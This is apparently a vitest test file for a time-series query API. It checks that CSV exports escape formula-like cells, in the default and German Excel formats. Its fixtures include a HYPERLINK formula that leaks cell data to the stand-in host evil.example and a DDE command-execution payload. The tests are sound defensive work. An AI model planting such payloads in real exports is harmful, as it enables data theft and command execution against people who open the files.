import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, login } from './support/identity.js';
import { createTestApp, type TestApp } from './support/test-app.js';
import { TimeSeriesFixtures } from './support/timeseries-fixtures.js';

// CSV answers of the time-series query: formula cells escaped by default, raw on request, and
// in the export engine's formats (delimiter, decimal separator, BOM).

const URL = '/xapi/v1/timeseries/query';
const START = Date.parse('2026-01-01T00:00:00Z');
const MINUTE = 60_000;
const NOTES = `SELECT time, text AS note, value WHERE state.key = 'note' ORDER BY time`;
const TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '-3.5',
  'plain text',
  "'already quoted",
];

let t: TestApp;
let pool: pg.Pool;
let headers: Record<string, string>;

beforeAll(async () => {
  t = await createTestApp();
  pool = new pg.Pool({ connectionString: String(t.orm.config.get('clientUrl')), max: 2 });
  const fx = new TimeSeriesFixtures(pool);
  const twin = await fx.twin('=Pump', t.rootAccountId, null);
  await fx.state('note', t.rootAccountId, twin, 'note');
  await fx.points(
    fx.ids.note!,
    TEXTS.map((text, i) => ({ time: START + i * MINUTE, text, value: i % 2 === 0 ? -3.5 : -i })),
  );
  headers = { ...bearer(await login(t)), accept: 'text/csv' };
}, 120_000);

afterAll(async () => {
  await pool?.end();
  await t?.close();
});

const csv = async (body: Record<string, unknown>) => {
  const response = await t.app.inject({ method: 'POST', url: URL, headers, payload: body });
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
  return response.body;
};

const time = (i: number) => new Date(START + i * MINUTE).toISOString();

describe('time-series query CSV', () => {
  it("prefixes text cells a spreadsheet would run as a formula with ', numbers stay numbers", async () => {
    expect(await csv({ query: NOTES })).toBe(
      'time,note,value\r\n' +
        `${time(0)},"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-3.5\r\n` +
        `${time(1)},'+1+cmd|' /C calc'!A0,-1\r\n` +
        `${time(2)},'-2+3,-3.5\r\n` +
        `${time(3)},"'@SUM(1,1)",-3\r\n` +
        `${time(4)},'\t=1+1,-3.5\r\n` +
        `${time(5)},"'\r=1+1",-5\r\n` +
        `${time(6)},'-3.5,-3.5\r\n` +
        `${time(7)},plain text,-7\r\n` +
        `${time(8)},'already quoted,-3.5\r\n`,
    );
  });

  it('escapes header names and GET answers the same way', async () => {
    const text = `SELECT twin.title AS "=title", count(*) AS "-n" WHERE state.key = 'note' GROUP BY twin.title`;
    const expected = "'=title,'-n\r\n'=Pump,9\r\n";
    expect(await csv({ query: text })).toBe(expected);
    const viaGet = await t.app.inject({ url: `${URL}?query=${encodeURIComponent(text)}`, headers });
    expect(viaGet.body).toBe(expected);
  });

  it('writes cells unaltered with escapeFormulas: false (POST body or GET parameter)', async () => {
    const raw = await csv({ query: NOTES, escapeFormulas: false });
    expect(raw).toContain(`${time(0)},"=HYPERLINK(""http://evil.example/?""&A1,""click"")",-3.5\r\n`);
    expect(raw).toContain(`${time(2)},-2+3,-3.5\r\n`);
    expect(raw).toContain(`${time(5)},"\r=1+1",-5\r\n`);
    const viaGet = await t.app.inject({
      url: `${URL}?query=${encodeURIComponent(NOTES)}&escapeFormulas=false`,
      headers,
    });
    expect(viaGet.body).toBe(raw);
  });

  it('writes German Excel CSV on request: semicolons, decimal commas and a BOM, escaped the same way', async () => {
    const excel = { query: NOTES, delimiter: ';', decimalSeparator: ',', bom: true };
    const text = await csv(excel);
    expect(text.startsWith('\uFEFFtime;note;value\r\n')).toBe(true);
    expect(text).toContain(`${time(0)};"'=HYPERLINK(""http://evil.example/?""&A1,""click"")";-3,5\r\n`);
    expect(text).toContain(`${time(3)};'@SUM(1,1);-3\r\n`);
    const viaGet = await t.app.inject({
      url: `${URL}?query=${encodeURIComponent(NOTES)}&delimiter=%3B&decimalSeparator=%2C&bom=true`,
      headers,
    });
    expect(viaGet.body).toBe(text);
  });

  it('leaves the JSON answer alone', async () => {
    const response = await t.app.inject({
      method: 'POST',
      url: URL,
      headers: { ...headers, accept: 'application/json' },
      payload: { query: NOTES },
    });
    const rows = response.json<{ rows: unknown[][] }>().rows;
    expect(rows.map((r) => r[1])).toEqual(TEXTS);
    expect(rows[0]![2]).toBe(-3.5);
  });
});
